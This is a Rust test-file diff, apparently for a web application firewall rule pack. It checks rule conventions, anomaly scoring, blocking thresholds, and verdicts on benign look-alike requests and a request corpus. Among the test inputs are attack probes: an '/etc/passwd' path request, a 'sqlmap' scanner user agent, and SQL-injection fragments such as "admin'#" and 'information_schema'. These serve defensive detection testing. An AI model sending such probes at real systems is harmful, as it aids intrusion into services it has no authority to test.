+    v.push(Req::get("/").header("Cookie", "sid=Zm9vYmFy/onTgHxqz=; theme=dark"));
+    v.push(Req::get("/").header("X-Request-Id", "7f0c1a2b-3c4d-5e6f-8a9b-0c1d2e3f4a5b"));
+    v.push(Req::get("/").header("X-Forwarded-For", "198.51.100.7, 10.0.0.1"));
+    v.push(Req::get("/").header("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI4NDUyMSJ9.qMUqz3wWPa1Ev1H0cbbgk4hHq_PvqqqhOcN1Mv2EV9g"));
+    // Forms, JSON APIs, uploads.
+    v.push(form(&[("first_name", "Jane"), ("last_name", "O'Neil"), ("email", "jane.oneil@example.com"), ("notes", "Ring twice; leave it at the door & thanks!")]));
+    v.push(form(&[("comment", "Great shoes. I'd buy them again -- 5 stars, or 4 if the laces were better.")]));
+    v.push(json(r#"{"sku":"SKU-1000","quantity":2,"gift":false,"note":"Union Station, platform 3 & 4"}"#));
+    v.push(json(r#"{"query":"O'Reilly","filters":{"price":{"min":10,"max":50}},"page":1}"#));
+    v.push(json(r#"{"template":"Hello ${name}, your order ${order_id} ships today","url":"https://shop.example.com/orders/1"}"#));
+    v.push(xml("<?xml version=\"1.0\"?><order><id>1</id><note>1 &lt; 2</note><customer type=\"gold\">O'Neil &amp; Sons</customer></order>"));
+    v.push(multipart("notes.txt", "text/plain", "Leave the parcel at the front door.\r\nThanks, Jane"));
+    v.push(multipart("avatar.png", "image/png", "\u{89}PNG binary-ish data"));
+    v.push(multipart("php-guide.pdf", "application/pdf", "%PDF-1.7 a guide to PHP"));
+    v
+}
+
+// ---------------------------------------------------------------------------
+// Rule text
+
+/// One rule (a chain counts as one) as written in a file.
+struct RuleText {
+    file: String,
+    /// The action lists of the rule and of its chain links.
+    actions: Vec<String>,
+}
+
+impl RuleText {
+    fn head(&self) -> &str {
+        &self.actions[0]
+    }
+
+    fn all(&self) -> String {
+        self.actions.join(",")
+    }
+
+    fn id(&self) -> i64 {
+        let a = self.head();
+        let start = a.find("id:").unwrap_or_else(|| panic!("{}: rule without id: {a}", self.file)) + 3;
+        a[start..].chars().take_while(char::is_ascii_digit).collect::<String>().parse().unwrap()
+    }
+
+    /// Values of `name:'...'` (or `name:...` unquoted) in all action lists.
+    fn values(&self, name: &str) -> Vec<String> {
+        let all = self.all();
+        let mut out = Vec::new();
+        let key = format!("{name}:");
+        let mut rest = all.as_str();
+        while let Some(p) = rest.find(&key) {
+            let before = rest[..p].chars().last();
+            rest = &rest[p + key.len()..];
+            if before.is_some_and(|c| c != ',' && !c.is_whitespace() && c != '"') {
+                continue;
+            }
+            let v = if let Some(r) = rest.strip_prefix('\'') {
+                r.split('\'').next().unwrap_or("").to_string()
+            } else {
+                rest.split(',').next().unwrap_or("").trim().to_string()
+            };
+            out.push(v);
+        }
+        out
+    }
+
+    fn has_action(&self, name: &str) -> bool {
+        self.actions.iter().any(|a| a.split(',').any(|x| x.trim() == name))
+    }
+}
+
+/// Every rule of the pack's files, chains grouped.
+fn rule_texts() -> Vec<RuleText> {
+    let (confs, _) = pack_files();
+    let mut out: Vec<RuleText> = Vec::new();
+    for (file, bytes) in confs {
+        let text = String::from_utf8(bytes).unwrap();
+        let mut logical: Vec<String> = Vec::new();
+        let mut cur = String::new();
+        for line in text.lines() {
+            if cur.is_empty() && line.trim_start().starts_with('#') {
+                continue;
+            }
+            match line.strip_suffix('\\') {
+                Some(l) => cur.push_str(l),
+                None => {
+                    cur.push_str(line);
+                    if !cur.trim().is_empty() {
+                        logical.push(cur.trim().to_string());
+                    }
+                    cur.clear();
+                }
+            }
+        }
+        assert!(!logical.iter().any(|l| l.to_ascii_lowercase().starts_with("secdefaultaction")), "{file}: SecDefaultAction is not allowed in the pack");
+        let mut in_chain = false;
+        for l in logical {
+            if !(l.starts_with("SecRule") || l.starts_with("SecAction")) {
+                continue;
+            }
+            let end = l.rfind('"').unwrap_or_else(|| panic!("{file}: no action list in {l}"));
+            let start = l[..end].rfind('"').unwrap_or_else(|| panic!("{file}: no action list in {l}")) + 1;
+            let actions = l[start..end].split_whitespace().collect::<Vec<_>>().join(" ");
+            let chains = actions.split(',').any(|x| x.trim() == "chain");
+            if in_chain {
+                out.last_mut().unwrap().actions.push(actions);
+            } else {
+                out.push(RuleText { file: file.clone(), actions: vec![actions] });
+            }
+            in_chain = chains;
+        }
+    }
+    out
+}
+
+const ATTACK_TAGS: &[&str] = &[
+    "attack-sqli",
+    "attack-xss",
+    "attack-rce",
+    "attack-lfi",
+    "attack-rfi",
+    "attack-php",
+    "attack-java",
+    "attack-protocol",
+    "attack-ssrf",
+    "attack-nosql",
+    "scanner",
+];
+
+/// Ids of the detection rules (those that add to the score).
+fn detection_ids() -> BTreeSet<i64> {
+    rule_texts().iter().filter(|r| r.all().contains("tx.portcullis_inbound_score=+")).map(RuleText::id).collect()
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+
+#[test]
+fn rules_follow_the_pack_conventions() {
+    let rules = rule_texts();
+    let mut ids = BTreeSet::new();
+    let mut detections = 0;
+    for r in &rules {
+        let id = r.id();
+        let file_no: i64 = r.file.rsplit('/').next().unwrap()[..2].parse().unwrap_or_else(|_| panic!("{}: name starts with two digits", r.file));
+        assert!((4_200_000..=4_299_999).contains(&id), "{id}: outside 4200000-4299999");
+        assert_eq!(id / 1000 % 100, file_no, "{id} in {}: digits 3-4 of the id are the file's number", r.file);
+        assert!(ids.insert(id), "duplicate id {id}");
+        assert!(r.head().contains("phase:"), "{id}: no phase");
+        if !r.all().contains("tx.portcullis_inbound_score=+") {
+            continue;
+        }
+        detections += 1;
+        let head = r.head();
+        assert!(r.has_action("pass"), "{id}: detection rules pass (the blocking rules decide)");
+        assert!(!r.has_action("deny") && !r.has_action("block"), "{id}: detection rules do not block");
+        assert!(r.has_action("log"), "{id}: detection rules log");
+        assert!(head.contains("phase:1") || head.contains("phase:2"), "{id}: request phases only");
+        let msg = r.values("msg");
+        assert!(msg.len() == 1 && !msg[0].is_empty(), "{id}: one msg");
+        let logdata = r.values("logdata");
+        assert!(logdata.len() == 1 && logdata[0].contains("%{"), "{id}: logdata showing what matched");
+        let sev = r.values("severity");
+        assert_eq!(sev.len(), 1, "{id}: one severity");
+        let points = match sev[0].as_str() {
+            "CRITICAL" => 5,
+            "ERROR" => 4,
+            "WARNING" => 3,
+            "NOTICE" => 2,
+            s => panic!("{id}: severity {s}"),
+        };
+        let adds = r.values("setvar");
+        assert_eq!(adds, vec![format!("tx.portcullis_inbound_score=+{points}")], "{id}: adds its severity's points");
+        let tags = r.values("tag");
+        assert!(tags.iter().any(|t| t == "portcullis"), "{id}: tag portcullis");
+        let attack: Vec<&String> = tags.iter().filter(|t| ATTACK_TAGS.contains(&t.as_str())).collect();
+        assert_eq!(attack.len(), 1, "{id}: exactly one attack tag, got {tags:?}");
+        for t in &tags {
+            if let Some(cve) = t.strip_prefix("cve/") {
+                let ok = cve.len() >= 13 && cve.starts_with("CVE-") && cve[4..8].chars().all(|c| c.is_ascii_digit()) && &cve[8..9] == "-" && cve[9..].chars().all(|c| c.is_ascii_digit());
+                assert!(ok, "{id}: malformed CVE tag {t}");
+            } else {
+                assert!(t == "portcullis" || ATTACK_TAGS.contains(&t.as_str()), "{id}: unexpected tag {t}");
+            }
+        }
+        let t = r.values("t");
+        assert!(t.first().is_some_and(|x| x == "none"), "{id}: transformation chain starts with t:none");
+    }
+    // The blocking rules: deny with 403 on the score, in phases 1 and 2.
+    for (id, phase) in [(4_290_100, "phase:1"), (4_290_200, "phase:2")] {
+        let r = rules.iter().find(|r| r.id() == id).unwrap_or_else(|| panic!("blocking rule {id} missing"));
+        assert!(r.head().contains(phase) && r.has_action("deny") && r.head().contains("status:403"), "{id}: deny 403 in {phase}");
+        assert!(r.head().contains("portcullis_inbound_threshold"), "{id}: compares with the threshold");
+    }
+    println!("pack conventions: {} rules checked, {detections} detection rules", rules.len());
+    assert!(detections >= 20, "expected at least 20 detection rules, found {detections}");
+}
+
+#[test]
+fn every_rule_catches_its_attacks() {
+    let rules = pack();
+    let cases = attacks();
+    let mut ran = 0;
+    let mut skipped: Vec<String> = Vec::new();
+    let mut failures: Vec<String> = Vec::new();
+    for (id, req) in &cases {
+        let body: String = String::from_utf8_lossy(&req.body).chars().take(160).collect();
+        let label = format!("{id} {} {} {}{body:?}", req.method, req.uri, extra_headers(req));
+        if !available(req.needs) {
+            skipped.push(format!("{label} (needs {:?} body parsing)", req.needs));
+            continue;
+        }
+        ran += 1;
+        let o = run(rules, req);
+        let Some(m) = o.matches.iter().find(|m| m.rule_id == *id) else {
+            failures.push(format!("{label}: rule did not match; {}", describe(&o)));
+            continue;
+        };
+        if m.severity_name() == "CRITICAL" {
+            match &o.interruption {
+                Some(i) if i.status == 403 && matches!(i.rule_id, Some(4_290_100) | Some(4_290_200)) => {}
+                _ => failures.push(format!("{label}: critical hit did not block; {}", describe(&o))),
+            }
+        }
+        if m.msg.is_empty() || m.data.is_empty() || !m.tags.iter().any(|t| t == "portcullis") {
+            failures.push(format!("{label}: match lacks msg/logdata/tags: {m:?}"));
+        }
+    }
+    // Every detection rule has cases.
+    let covered: BTreeSet<i64> = cases.iter().map(|(id, _)| *id).collect();
+    for id in detection_ids() {
+        if !covered.contains(&id) {
+            failures.push(format!("detection rule {id} has no attack case"));
+        }
+    }
+    for s in &skipped {
+        println!("SKIPPED {s}");
+    }
+    println!("attack cases: {} listed, {ran} ran, {} skipped, {} failed", cases.len(), skipped.len(), failures.len());
+    assert!(ran >= 100, "only {ran} attack cases ran");
+    assert!(failures.is_empty(), "{} attack case(s) failed:\n{}", failures.len(), failures.join("\n"));
+}
+
+/// The headers of `req` a browser would not have sent (for labels).
+fn extra_headers(req: &Req) -> String {
+    req.headers
+        .iter()
+        .filter(|(n, v)| !BROWSER.iter().any(|(bn, bv)| bn == n && bv == v))
+        .map(|(n, v)| format!("[{n}: {v}] "))
+        .collect()
+}
+
+#[test]
+fn look_alikes_match_nothing() {
+    let rules = pack();
+    let cases = look_alikes();
+    let mut ran = 0;
+    let mut failures: Vec<String> = Vec::new();
+    for req in &cases {
+        if !available(req.needs) {
+            // A benign body the engine cannot parse yet still must not block.
+            let o = run(rules, req);
+            if o.interruption.is_some() {
+                failures.push(format!("{} {}: blocked; {}", req.method, req.uri, describe(&o)));
+            }
+            continue;
+        }
+        ran += 1;
+        let o = run(rules, req);
+        if o.interruption.is_some() || !o.matches.is_empty() {
+            failures.push(format!("{} {} {:?}: {}", req.method, req.uri, String::from_utf8_lossy(&req.body), describe(&o)));
+        }
+    }
+    println!("look-alike cases: {} listed, {ran} ran, {} failed", cases.len(), failures.len());
+    assert!(ran >= 80, "only {ran} look-alike cases ran");
+    assert!(failures.is_empty(), "{} benign case(s) matched:\n{}", failures.len(), failures.join("\n"));
+}
+
+#[test]
+fn corpus_gets_its_expected_verdicts() {
+    let rules = pack();
+    let dir = corpus_dir();
+    let mut paths: Vec<PathBuf> = fs::read_dir(&dir)
+        .unwrap_or_else(|e| panic!("corpus {}: {e}", dir.display()))
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|x| x == "json"))
+        .collect();
+    paths.sort();
+    let (mut ran, mut blocked, mut passed) = (0, 0, 0);
+    let mut skipped: Vec<String> = Vec::new();
+    let mut failures: Vec<String> = Vec::new();
+    for p in &paths {
+        let doc = mini_json::parse(&fs::read_to_string(p).unwrap()).unwrap_or_else(|e| panic!("{}: {e}", p.display()));
+        let name = doc.get("name").and_then(|v| v.str()).unwrap().to_string();
+        let expect = doc.get("expect").and_then(|v| v.str()).unwrap().to_string();
+        let mut req = Req {
+            method: doc.get("method").and_then(|v| v.str()).unwrap().into(),
+            uri: doc.get("uri").and_then(|v| v.str()).unwrap().into(),
+            headers: doc
+                .get("headers")
+                .and_then(|v| v.arr())
+                .unwrap()
+                .iter()
+                .map(|h| {
+                    let h = h.arr().unwrap();
+                    (h[0].str().unwrap().to_string(), h[1].str().unwrap().to_string())
+                })
+                .collect(),
+            body: doc.get("body").and_then(|v| v.str()).unwrap_or("").as_bytes().to_vec(),
+            needs: Needs::Nothing,
+        };
+        let ctype = req.headers.iter().find(|(n, _)| n.eq_ignore_ascii_case("content-type")).map(|(_, v)| v.to_ascii_lowercase()).unwrap_or_default();
+        if ctype.starts_with("application/json") && expect == "block" {
+            req.needs = Needs::Json;
+        }
+        if !available(req.needs) {
+            skipped.push(format!("{name} (expect {expect}; needs {:?} body parsing)", req.needs));
+            continue;
+        }
+        ran += 1;
+        let o = run(rules, &req);
+        let got = if o.interruption.is_some() { "block" } else { "pass" };
+        println!("{name}: expect {expect}, got {got}, rules {:?}", o.ids());
+        if got != expect {
+            failures.push(format!("{name}: expected {expect}, got {got}; {}", describe(&o)));
+        } else if got == "block" {
+            blocked += 1;
+        } else {
+            passed += 1;
+            if !o.matches.is_empty() {
+                failures.push(format!("{name}: benign request matched rules; {}", describe(&o)));
+            }
+        }
+    }
+    for s in &skipped {
+        println!("SKIPPED {s}");
+    }
+    println!("corpus: {} files, {ran} ran ({blocked} blocked as expected, {passed} passed as expected), {} skipped, {} failed", paths.len(), skipped.len(), failures.len());
+    assert!(paths.len() >= 34, "expected the 34 corpus files in {}", dir.display());
+    assert!(ran >= 30, "only {ran} corpus requests ran");
+    assert!(failures.is_empty(), "{} corpus request(s) failed:\n{}", failures.len(), failures.join("\n"));
+}
+
+#[test]
+fn one_warning_does_not_block_two_do() {
+    let rules = pack();
+    let mut ran = 0;
+    for (req, id) in [(q("phpinfo()"), 4_235_150), (q("information_schema"), 4_240_160), (q("the 'end' --"), 4_240_150), (q("admin'#"), 4_240_150)] {
+        ran += 1;
+        let o = run(rules, &req);
+        let m = o.matches.iter().find(|m| m.rule_id == id).unwrap_or_else(|| panic!("{id} did not match {}; {}", req.uri, describe(&o)));
+        assert_eq!(m.severity_name(), "WARNING", "{id}");
+        assert!(o.interruption.is_none(), "one warning blocked {}: {}", req.uri, describe(&o));
+        assert_eq!(o.score.as_deref(), Some("3"), "{}: {}", req.uri, describe(&o));
+    }
+    // Two warnings: 3 + 3 reaches 5.
+    ran += 1;
+    let o = run(rules, &Req::get("/search?a=phpinfo()&b=information_schema"));
+    assert_eq!(o.score.as_deref(), Some("6"), "{}", describe(&o));
+    let i = o.interruption.as_ref().unwrap_or_else(|| panic!("two warnings did not block: {}", describe(&o)));
+    assert_eq!((i.status, i.rule_id, i.phase), (403, Some(4_290_200), 2));
+    // A clean request scores 0.
+    ran += 1;
+    let o = run(rules, &Req::get("/search?q=shoes"));
+    assert_eq!(o.score.as_deref(), Some("0"));
+    assert!(o.interruption.is_none() && o.matches.is_empty());
+    println!("scoring cases: {ran}");
+}
+
+#[test]
+fn phase_one_blocks_header_attacks_before_the_body() {
+    let rules = pack();
+    let req = Req::post("/api/v1/items", "application/x-www-form-urlencoded", b"a=1").header("User-Agent", "sqlmap/1.8");
+    let o = run(rules, &req);
+    let i = o.interruption.unwrap_or_else(|| panic!("not blocked"));
+    assert_eq!((i.status, i.rule_id, i.phase), (403, Some(4_290_100), 1));
+    println!("phase 1 cases: 1");
+}
+
+#[test]
+fn threshold_can_be_raised_by_an_earlier_rule() {
+    let (confs, data) = pack_files();
+    let raised = build(&["SecAction \"id:100,phase:1,pass,nolog,setvar:tx.portcullis_inbound_threshold=100\""], &confs, &data);
+    let mut tx = raised.new_transaction();
+    tx.process_uri(b"/etc/passwd", b"GET", b"HTTP/1.1");
+    tx.add_request_header(b"Host", b"shop.example.com");
+    tx.process_request_headers();
+    tx.process_request_body();
+    assert!(tx.interruption().is_none(), "blocked despite threshold 100");
+    assert!(tx.matches().iter().any(|m| m.rule_id == 4_220_200));
+    assert_eq!(tx.tx_var("portcullis_inbound_threshold").as_deref(), Some(&b"100"[..]));
+    // Default: 5.
+    let o = run(pack(), &Req::get("/"));
+    assert!(o.interruption.is_none());
+    let mut tx = pack().new_transaction();
+    tx.process_uri(b"/", b"GET", b"HTTP/1.1");
+    tx.process_request_headers();
+    assert_eq!(tx.tx_var("portcullis_inbound_threshold").as_deref(), Some(&b"5"[..]));
+    println!("threshold cases: 2");
+}
+
+#[test]
+fn every_regex_is_prefiltered() {
+    let rules = pack();
+    let stats = rules.stats();
+    println!("pack: {stats:?}");
+    let unfiltered = rules.unfiltered_rx_rules();
+    assert!(unfiltered.is_empty(), "@rx rules without a literal prefilter: {unfiltered:?}");
+    assert!(stats.prefiltered_rules >= 15, "{stats:?}");
+    // Few transformation chains, shared between rules.
+    assert!(stats.transformation_chains <= 6, "{stats:?}");
+}
+
+#[test]
+fn loads_next_to_the_crs() {
+    let crs = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs/v4.28.0");
+    let base = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/base/recommended.conf");
+    if !crs.join("rules").is_dir() || !base.is_file() {
+        println!("SKIPPED: no CRS at {}", crs.display());
+        return;
+    }
+    let (mut confs, mut data) = pack_files();
+    let mut all = vec![("rules/base/recommended.conf".to_string(), fs::read(&base).unwrap())];
+    all.push(("crs/crs-setup.conf".to_string(), fs::read(crs.join("crs-setup.conf.example")).unwrap()));
+    all.extend(files(&crs.join("rules"), ".conf", "crs/rules"));
+    // The pack first, as `rules: ["@builtin", "@crs"]`.
+    confs.extend(all);
+    data.extend(files(&crs.join("rules"), ".data", "crs/rules"));
+    let rules = build(&[], &confs, &data);
+    // Our phase 1 decision still fires, with our own score.
+    let o = run(&rules, &Req::get("/etc/passwd"));
+    let i = o.interruption.as_ref().unwrap_or_else(|| panic!("not blocked: {}", describe(&o)));
+    assert_eq!(i.rule_id, Some(4_290_100), "{}", describe(&o));
+    assert_eq!(o.score.as_deref(), Some("5"));
+    // A benign browser request passes both.
+    let o = run(&rules, &Req::get("/search?q=O%27Reilly+%26+Sons&page=2"));
+    assert!(o.interruption.is_none(), "{}", describe(&o));
+    assert!(!o.ids().iter().any(|id| (4_200_000..4_300_000).contains(id)), "{}", describe(&o));
+    println!("CRS coexistence cases: 2");
+}
+
+// ---------------------------------------------------------------------------
+// A small JSON reader for the corpus files (std only).
+
+mod mini_json {
+    /// A JSON value.
+    #[derive(Debug)]
+    pub enum Value {
+        Null,
+        Bool(#[allow(dead_code)] bool),
+        Num(#[allow(dead_code)] f64),
+        Str(String),
+        Arr(Vec<Value>),
+        Obj(Vec<(String, Value)>),
+    }
+
+    impl Value {
+        pub fn get(&self, key: &str) -> Option<&Value> {
+            match self {
+                Value::Obj(m) => m.iter().find(|(k, _)| k == key).map(|(_, v)| v),
+                _ => None,
+            }
+        }
+        pub fn str(&self) -> Option<&str> {
+            match self {
+                Value::Str(s) => Some(s),
+                _ => None,
+            }
+        }
+        pub fn arr(&self) -> Option<&[Value]> {
+            match self {
+                Value::Arr(a) => Some(a),
+                _ => None,
+            }
+        }
+    }
+
+    pub fn parse(s: &str) -> Result<Value, String> {
+        let mut p = P { b: s.as_bytes(), i: 0 };
+        let v = p.value()?;
+        p.ws();
+        if p.i != p.b.len() {
+            return Err(format!("trailing data at {}", p.i));
+        }
+        Ok(v)
+    }
+
+    struct P<'a> {
+        b: &'a [u8],
+        i: usize,
+    }
+
+    impl P<'_> {
+        fn ws(&mut self) {
+            while self.i < self.b.len() && self.b[self.i].is_ascii_whitespace() {
+                self.i += 1;
+            }
+        }
+        fn eat(&mut self, c: u8) -> Result<(), String> {
+            self.ws();
+            if self.b.get(self.i) == Some(&c) {
+                self.i += 1;
+                Ok(())
+            } else {
+                Err(format!("expected `{}` at {}", c as char, self.i))
+            }
+        }
+        fn value(&mut self) -> Result<Value, String> {
+            self.ws();
+            match self.b.get(self.i) {
+                Some(b'{') => {
+                    self.i += 1;
+                    let mut m = Vec::new();
+                    self.ws();
+                    if self.b.get(self.i) == Some(&b'}') {
+                        self.i += 1;
+                        return Ok(Value::Obj(m));
+                    }
+                    loop {
+                        self.ws();
+                        let k = self.string()?;
+                        self.eat(b':')?;
+                        m.push((k, self.value()?));
+                        self.ws();
+                        match self.b.get(self.i) {
+                            Some(b',') => self.i += 1,
+                            Some(b'}') => {
+                                self.i += 1;
+                                return Ok(Value::Obj(m));
+                            }
+                            _ => return Err(format!("bad object at {}", self.i)),
+                        }
+                    }
+                }
+                Some(b'[') => {
+                    self.i += 1;
+                    let mut a = Vec::new();
+                    self.ws();
+                    if self.b.get(self.i) == Some(&b']') {
+                        self.i += 1;
+                        return Ok(Value::Arr(a));
+                    }
+                    loop {
+                        a.push(self.value()?);
+                        self.ws();
+                        match self.b.get(self.i) {
+                            Some(b',') => self.i += 1,
+                            Some(b']') => {
+                                self.i += 1;
+                                return Ok(Value::Arr(a));
+                            }
+                            _ => return Err(format!("bad array at {}", self.i)),
+                        }
+                    }
+                }
+                Some(b'"') => Ok(Value::Str(self.string()?)),
+                Some(b't') if self.b[self.i..].starts_with(b"true") => {
+                    self.i += 4;
+                    Ok(Value::Bool(true))
+                }
+                Some(b'f') if self.b[self.i..].starts_with(b"false") => {
+                    self.i += 5;
+                    Ok(Value::Bool(false))
+                }
+                Some(b'n') if self.b[self.i..].starts_with(b"null") => {
+                    self.i += 4;
+                    Ok(Value::Null)
+                }
+                Some(_) => {
+                    let start = self.i;
+                    while self.i < self.b.len() && (self.b[self.i].is_ascii_digit() || b"+-.eE".contains(&self.b[self.i])) {
+                        self.i += 1;
+                    }
+                    std::str::from_utf8(&self.b[start..self.i]).unwrap().parse().map(Value::Num).map_err(|_| format!("bad value at {start}"))
+                }
+                None => Err("unexpected end".into()),
+            }
+        }
+        fn hex4(&mut self) -> Result<u32, String> {
+            let h = self.b.get(self.i..self.i + 4).ok_or("short \\u escape")?;
+            self.i += 4;
+            u32::from_str_radix(std::str::from_utf8(h).map_err(|e| e.to_string())?, 16).map_err(|e| e.to_string())
+        }
+        fn string(&mut self) -> Result<String, String> {
+            self.eat(b'"')?;
+            let mut out: Vec<u8> = Vec::new();
+            loop {
+                let c = *self.b.get(self.i).ok_or("unterminated string")?;
+                self.i += 1;
+                match c {
+                    b'"' => return String::from_utf8(out).map_err(|e| e.to_string()),
+                    b'\\' => {
+                        let e = *self.b.get(self.i).ok_or("bad escape")?;
+                        self.i += 1;
+                        let ch = match e {
+                            b'"' => '"',
+                            b'\\' => '\\',
+                            b'/' => '/',
+                            b'b' => '\u{8}',
+                            b'f' => '\u{c}',
+                            b'n' => '\n',
+                            b'r' => '\r',
+                            b't' => '\t',
+                            b'u' => {
+                                let mut cp = self.hex4()?;
+                                if (0xD800..0xDC00).contains(&cp) && self.b[self.i..].starts_with(b"\\u") {
+                                    self.i += 2;
+                                    let lo = self.hex4()?;
+                                    cp = 0x10000 + ((cp - 0xD800) << 10) + (lo.wrapping_sub(0xDC00) & 0x3FF);
+                                }
+                                char::from_u32(cp).unwrap_or('\u{FFFD}')
+                            }
+                            _ => return Err(format!("bad escape at {}", self.i)),
+                        };
+                        let mut buf = [0u8; 4];
+                        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
+                    }
+                    _ => out.push(c),
+                }
+            }
+        }
+    }
+}
